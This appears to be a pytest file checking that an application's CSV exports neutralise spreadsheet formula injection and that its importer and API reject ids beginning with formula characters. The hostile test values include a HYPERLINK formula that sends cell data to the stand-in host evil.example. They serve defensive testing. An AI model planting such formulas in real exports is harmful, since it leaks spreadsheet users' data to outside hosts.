"""Point 7: every CSV the system writes neutralises cells a spreadsheet would evaluate
(OWASP: a leading `'` before `=`, `+`, `-`, `@`, tab, CR), the importer reads its own cells
back to the same values, and ids (codes) refuse such characters at the boundary."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Callable
from pathlib import Path

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from pledgeflow.adapters.exporters import write_dataset
from pledgeflow.adapters.exporters.cells import FORMULA_TRIGGERS, neutralised, restored
from pledgeflow.adapters.importers import read_tables, validate
from pledgeflow.bootstrap import Container
from pledgeflow.domain.datasets import Dataset
from pledgeflow.service.access import Role
from tests.api.conftest import mission

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "+1+1", "-2+3", "'=quoted"]


def _hostile() -> Dataset:
    base = mission()
    parties = tuple(
        dataclasses.replace(party, name=name)
        for party, name in zip(base.parties, EVIL, strict=False)
    )
    requirements = tuple(dataclasses.replace(r, notes=EVIL[0]) for r in base.requirements)
    return dataclasses.replace(base, parties=parties, requirements=requirements)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_exported_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    write_dataset(_hostile(), tmp_path)
    for file in tmp_path.glob("*.csv"):
        for cell in _cells(file.read_text(encoding="utf-8")):
            assert not cell.startswith(FORMULA_TRIGGERS), (file.name, cell)


def test_the_importer_reads_its_escaped_cells_back_to_the_same_values(tmp_path: Path) -> None:
    dataset = _hostile()
    write_dataset(dataset, tmp_path)
    result = validate(read_tables(tmp_path), Dataset(), update=False)
    assert result.ok, result.problems
    assert {p.name for p in result.dataset.parties} == {p.name for p in dataset.parties}
    assert {r.notes for r in result.dataset.requirements} == {EVIL[0]}


@given(st.text())
def test_neutralising_is_undone_exactly(text: str) -> None:
    cell = neutralised(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert restored(cell) == text


def test_the_plan_export_neutralises_its_cells(
    client: TestClient, container: Container, sign_in: Callable[[Role], dict[str, str]]
) -> None:
    with container.uow() as uow:
        plan = uow.plans.get(1)
        assert plan is not None
        lines = tuple(dataclasses.replace(a, pledge="=1+1") for a in plan.allocations)
        uow.plans.add(dataclasses.replace(plan, allocations=lines), uow.now())
        uow.commit("plan")
    answer = client.get("/plans/2/export", headers=sign_in(Role.COORDINATOR))
    assert answer.status_code == 200
    assert "'=1+1" in _cells(answer.text)
    assert not any(c.startswith(FORMULA_TRIGGERS) for c in _cells(answer.text))


def test_ids_that_start_a_formula_are_refused_by_the_api_and_the_importer(
    client: TestClient, sign_in: Callable[[Role], dict[str, str]], tmp_path: Path
) -> None:
    pledge = {
        "id": EVIL[0],
        "donor": "POL",
        "item": "GEN-10",
        "quantity": "1",
        "available_from": "2026-12-01",
        "origin": "DEP-POL",
    }
    answer = client.post("/pledges", json=pledge, headers=sign_in(Role.COORDINATOR))
    assert answer.status_code == 422
    assert answer.json()["errors"][0]["field"] == "id"
    (tmp_path / "parties.csv").write_text("code,name,roles\n@EVIL,Evil,donor\n")
    problems = validate(read_tables(tmp_path), Dataset(), update=False).problems
    assert [(p.table, p.row, p.column) for p in problems] == [("parties", 2, "code")]
    assert "formula" in problems[0].reason
